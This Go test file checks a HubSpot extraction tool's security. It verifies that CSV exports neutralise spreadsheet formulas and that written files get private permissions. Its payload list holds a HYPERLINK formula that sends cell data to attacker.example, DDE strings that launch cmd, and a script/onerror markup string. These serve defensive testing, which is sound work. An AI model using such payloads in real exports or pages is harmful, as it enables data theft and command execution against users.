package reliability

import (
	"encoding/csv"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/zalando/go-keyring"

	"hubextract/backend/fakehub"
	"hubextract/backend/settings"
	"hubextract/backend/testkit"
	"hubextract/backend/workspace"
)

// formulas are values a spreadsheet would run (CSV injection), in the
// spellings spreadsheets accept: every one must leave an export
// neutralised, and a browser must show them, and markup, as text.
var formulas = []string{`=HYPERLINK("https://attacker.example/?d="&A1,"Open")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
	"\t=1+1", "\r=1+1", " =1+1", "＝1+1", "=cmd|' /C calc'!A0"}

// markup is what a browser must show as text, never run or render.
const markup = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"><b>bold</b>`

// poison rewrites every answer that carries what an export shows: record
// property values (but ids, dates and times, which the run itself reads),
// owners' names and email, property and option labels, pipeline and stage
// labels, form names and submission values; each becomes one of the
// formulas or the markup, in turn.
type poison struct {
	next http.Handler
	mu   sync.Mutex // the calls come concurrently
	n    int
}

func (p *poison) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	rw := &rewriter{next: p.next, match: func(*http.Request) bool { return true }, edit: func(b map[string]any, _ int) {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.walk(b, "")
	}}
	rw.ServeHTTP(w, r)
}

func (p *poison) value() string {
	p.n++
	if p.n%(len(formulas)+1) == 0 {
		return markup
	}
	return formulas[p.n%(len(formulas)+1)-1]
}

// walk replaces, in place, the strings under the keys an export shows.
func (p *poison) walk(v any, key string) {
	switch x := v.(type) {
	case map[string]any:
		for k, child := range x {
			if s, ok := child.(string); ok && p.shown(key, k, s) {
				x[k] = p.value()
				continue
			}
			p.walk(child, k)
		}
	case []any:
		for _, child := range x {
			p.walk(child, key)
		}
	}
}

// shown reports whether the string s under key k (inside parent) is a
// value an export shows and the run does not itself read.
func (p *poison) shown(parent, k, s string) bool {
	lower := strings.ToLower(k)
	switch {
	case s == "", strings.Contains(lower, "id"), strings.Contains(lower, "date"), strings.Contains(lower, "time"),
		strings.Contains(lower, "modified"), strings.HasPrefix(lower, "hs_"), strings.Contains(lower, "after"):
		return false
	case parent == "properties":
		return true
	}
	switch k {
	case "label", "firstName", "lastName", "email", "name", "value":
		return true
	}
	return false
}

// formulaStart reports whether a spreadsheet would run the cell as a
// formula: it starts (after blanks) with = + - @ or their full-width forms,
// or with a tab or carriage return.
func formulaStart(c string) bool {
	if c == "" {
		return false
	}
	if c[0] == '\t' || c[0] == '\r' {
		return true
	}
	c = strings.TrimLeft(c, " \t\u00a0\u3000")
	return strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "-") || strings.HasPrefix(c, "@") ||
		strings.HasPrefix(c, "＝") || strings.HasPrefix(c, "＋") || strings.HasPrefix(c, "－") || strings.HasPrefix(c, "＠")
}

// checkCSVs reads every CSV under root and fails for each cell a
// spreadsheet would run; it returns the files and cells read and how many
// cells held a neutralised formula (the payloads did reach the export).
func checkCSVs(t *testing.T, root string) (files, cells, neutralised int) {
	t.Helper()
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(path, ".csv") {
			return err
		}
		files++
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		rows, err := csv.NewReader(f).ReadAll()
		if err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		for i, row := range rows {
			for j, c := range row {
				cells++
				c = strings.TrimPrefix(c, "\uFEFF")
				switch {
				case formulaStart(c):
					t.Errorf("%s row %d column %d would run as a formula: %q", filepath.Base(path), i+1, j+1, c)
				case strings.HasPrefix(c, "'") && formulaStart(c[1:]):
					neutralised++
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return files, cells, neutralised
}

// TestCSVFormulas: values a spreadsheet would run, in every field an export
// shows (record properties, owners, property, option, pipeline and stage
// labels, forms, submissions), are neutralised in every export path: the
// command line's one type to standard output and to a file, every type to
// a folder with and without labels and with a byte-order mark, and the
// app's export.
func TestCSVFormulas(t *testing.T) {
	suite(t, false)
	f := &finding{Area: areaSecurity, Case: "CSV formula injection (= + - @, full-width, after blanks, tab, CR) in every field an export shows, through every export path"}
	record(t, f)
	clk := testkit.NewClock(t0)
	url := testkit.Serve(t, &poison{next: fakehub.New(portal(clk))})
	root := dir(t)
	path := filepath.Join(root, "poisoned.db")
	code, stdout, stderr := runBin(t, extractArgs(url, path)...)
	f.Runs++
	if code != 0 {
		t.Fatalf("the run: exit %d\n%s\n%s", code, stdout, stderr)
	}
	out := filepath.Join(root, "exports")
	for i, args := range [][]string{
		{"export", "--db", path, "--all", "--dir", filepath.Join(out, "all")},
		{"export", "--db", path, "--all", "--labels", "--bom", "--dir", filepath.Join(out, "labels")},
		{"export", "--db", path, "--object", "contacts", "--labels", "--out", filepath.Join(out, "one.csv")},
		{"export", "--db", path, "--object", "deals"},
		{"export", "--db", path, "--object", "form_submissions"},
	} {
		code, stdout, stderr := runBin(t, args...)
		if code != 0 {
			t.Fatalf("hubextract %s: exit %d\n%s", strings.Join(args, " "), code, stderr)
		}
		if !strings.Contains(strings.Join(args, " "), "--dir") && !strings.Contains(strings.Join(args, " "), "--out") {
			writeFile(t, filepath.Join(out, fmt.Sprintf("stdout-%d.csv", i)), []byte(stdout))
		}
	}
	appExport(t, url, path, filepath.Join(out, "app"))
	files, cells, neutralised := checkCSVs(t, out)
	f.Files, f.Inputs = files, len(formulas)+1 // the kinds of value tried; the outcome counts the cells
	if neutralised < 100 {
		t.Errorf("only %d cells held a neutralised formula: the payloads did not reach the exports", neutralised)
	}
	f.Outcome = fmt.Sprintf("%d CSV files, %d cells read: %d formulas neutralised with a leading apostrophe, none left to run", files, cells, neutralised)
	t.Log(f.Outcome)
}

// appExport exports every type with labels through the app's own export
// (the workspace's ExportService), from the database at db.
func appExport(t *testing.T, url, db, out string) {
	t.Helper()
	env := map[string]string{settings.EnvConfigDir: filepath.Join(dir(t), "app"), settings.EnvDatabase: db}
	paths, err := settings.Resolve(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	ws, err := workspace.Open(workspace.Config{Paths: paths, HubSpotURL: url})
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	if err := os.MkdirAll(out, 0o700); err != nil {
		t.Fatal(err)
	}
	if res, err := ws.Export.Start(workspace.ExportRequest{Path: out, Labels: true, Associations: true, Excel: true}); err != nil {
		t.Fatalf("the app's export: %+v, %v", res, err)
	}
}

// TestFileModes: with a umask that would leave every file readable by
// everyone, the app (its workspace: the key saved where no keychain is, an
// extraction, an export) and the command line (an extraction killed
// mid-run, then resumed) leave every file they write 0600 and every folder
// 0700: the database with its WAL, shared-memory and lock files, the log,
// the token file, the exports.
func TestFileModes(t *testing.T) {
	suite(t, false)
	f := &finding{Area: areaSecurity, Case: "the database, its WAL, shared-memory and lock files, the log, the token file and exports 0600 (folders 0700), under umask 000"}
	record(t, f)
	old := syscall.Umask(0)
	t.Cleanup(func() { syscall.Umask(old) })
	keyring.MockInitWithError(errors.New("no keychain on this machine")) // the token goes to its 0600 file

	clk := testkit.NewClock(t0)
	url := testkit.Serve(t, fakehub.New(portal(clk)))
	appDir := filepath.Join(dir(t), "app")
	env := map[string]string{settings.EnvConfigDir: appDir}
	paths, err := settings.Resolve(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	ws, err := workspace.Open(workspace.Config{Paths: paths, HubSpotURL: url, Clock: clk})
	if err != nil {
		t.Fatal(err)
	}
	c, err := ws.Connection.Test(secretToken)
	if err != nil || !c.OK || c.Token.Where != settings.InFile {
		t.Fatalf("connect: %+v, %v; want the key saved in its file", c.Token, err)
	}
	if sum, err := ws.Extract.Start(workspace.ExtractRequest{}); err != nil || sum.Run.Status != "succeeded" {
		t.Fatalf("the app's extraction: %+v, %v", sum.Run, err)
	}
	f.Runs++
	exports := filepath.Join(dir(t), "exports")
	if _, err := ws.Export.Start(workspace.ExportRequest{Path: exports, Labels: true}); err != nil {
		t.Fatalf("the app's export: %v", err)
	}
	if err := ws.Close(); err != nil {
		t.Fatal(err)
	}

	// The command line, in a folder of its own, with umask 000 too.
	cliDir := filepath.Join(dir(t), "cli")
	db := filepath.Join(cliDir, "data", "hubextract.db")
	k := &killer{next: fakehub.New(portal(testkit.NewClock(t0)))}
	kurl := testkit.Serve(t, k)
	cmd := command(t.Context(), extractArgs(kurl, db)...)
	cmd.Env = append(os.Environ(), "HUBEXTRACT_CONFIG_DIR="+cliDir)
	fired := k.start(t, cmd, 40)
	_ = cmd.Wait()
	<-fired
	f.Runs++
	f.Kills++
	modes(t, cliDir, f) // mid-run files: the WAL, the lock
	cmd = command(t.Context(), extractArgs(kurl, db)...)
	cmd.Env = append(os.Environ(), "HUBEXTRACT_CONFIG_DIR="+cliDir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("the resumed run: %v\n%s", err, out)
	}
	f.Runs++
	f.Resumed++
	// A command that fails writes its line to the log.
	cmd = command(t.Context(), extractArgs(kurl, db, "--objects", "no-such-type")...)
	cmd.Env = append(os.Environ(), "HUBEXTRACT_CONFIG_DIR="+cliDir)
	if err := cmd.Run(); err == nil {
		t.Fatal("extract --objects no-such-type succeeded")
	}

	seen := modes(t, appDir, f)
	for k := range modes(t, cliDir, f) {
		seen[k] = true
	}
	modes(t, exports, f)
	for _, want := range []string{"token", "hubextract.db", "hubextract.db.lock", "hubextract.log"} {
		if !seen[want] && !slices.ContainsFunc(sortedKeys(seen), func(s string) bool { return strings.HasPrefix(s, want+"-") }) { // token-<account>
			t.Errorf("no %s was written: not checked (saw %v)", want, seen)
		}
	}
	f.Outcome = fmt.Sprintf("%d files and folders checked, all 0600 and 0700 (among them %s)", f.Files, strings.Join(sortedKeys(seen), ", "))
	t.Log(f.Outcome)
}

// modes checks that every file under root is 0600 and every folder 0700,
// and returns the names it saw.
func modes(t *testing.T, root string, f *finding) map[string]bool {
	t.Helper()
	seen := map[string]bool{}
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		f.Files++
		seen[d.Name()] = true
		want := fs.FileMode(0o600)
		if d.IsDir() {
			want = 0o700
		}
		if info.Mode().Perm() != want {
			t.Errorf("%s is %v, want %v", path, info.Mode().Perm(), want)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return seen
}

func sortedKeys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}
